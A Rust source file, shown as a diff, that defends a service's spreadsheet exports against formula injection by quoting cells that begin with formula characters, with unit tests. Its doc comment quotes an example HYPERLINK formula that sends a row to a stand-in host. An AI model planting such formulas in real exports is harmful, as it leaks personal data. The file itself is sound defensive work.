@@ -1,0 +1,74 @@
+//! Spreadsheet cells that leave the service. A text cell that begins with `=`, `+`, `-` or `@`
+//! (or a tab or carriage return) is a formula to Excel and WPS once the file is edited or
+//! saved as CSV: a name such as `=HYPERLINK("http://x/?"&A1,"点击")` in a roster would send
+//! the row elsewhere (formula injection). [`neutralise`] prefixes such text with `'`, the
+//! usual defence, and [`SafeCells`] is the only way the service writes text into a worksheet:
+//! every export (persons, report summaries, import problem lists) goes through it, and
+//! `tests/it/hardening.rs` fails when a source file outside this one writes text cells directly.
+//! Any future CSV writer must pass each field through [`neutralise`] the same way.
+
+use std::borrow::Cow;
+
+use rust_xlsxwriter::{Format, Worksheet, XlsxError};
+
+/// `s`, with `'` in front when it begins with a character a spreadsheet reads as the start of a
+/// formula.
+pub fn neutralise(s: &str) -> Cow<'_, str> {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{s}")),
+        _ => Cow::Borrowed(s),
+    }
+}
+
+/// Text cells written through [`neutralise`].
+pub trait SafeCells {
+    /// A text cell with a format.
+    fn text(&mut self, row: u32, col: u16, s: &str, format: &Format) -> Result<(), XlsxError>;
+    /// A text cell without a format.
+    fn text_plain(&mut self, row: u32, col: u16, s: &str) -> Result<(), XlsxError>;
+    /// Text across merged cells.
+    fn merged_text(
+        &mut self,
+        rows: (u32, u32),
+        cols: (u16, u16),
+        s: &str,
+        format: &Format,
+    ) -> Result<(), XlsxError>;
+}
+
+impl SafeCells for Worksheet {
+    fn text(&mut self, row: u32, col: u16, s: &str, format: &Format) -> Result<(), XlsxError> {
+        self.write_string_with_format(row, col, neutralise(s), format)
+            .map(|_| ())
+    }
+
+    fn text_plain(&mut self, row: u32, col: u16, s: &str) -> Result<(), XlsxError> {
+        self.write_string(row, col, neutralise(s)).map(|_| ())
+    }
+
+    fn merged_text(
+        &mut self,
+        rows: (u32, u32),
+        cols: (u16, u16),
+        s: &str,
+        format: &Format,
+    ) -> Result<(), XlsxError> {
+        self.merge_range(rows.0, cols.0, rows.1, cols.1, &neutralise(s), format)
+            .map(|_| ())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_leads_are_quoted() {
+        for s in ["=1+1", "+86 138", "-2", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert_eq!(neutralise(s), format!("'{s}"), "{s:?}");
+        }
+        for s in ["张三", "", "1=1", "'=x", "440115"] {
+            assert_eq!(neutralise(s), s, "{s:?}");
+        }
+    }
+}
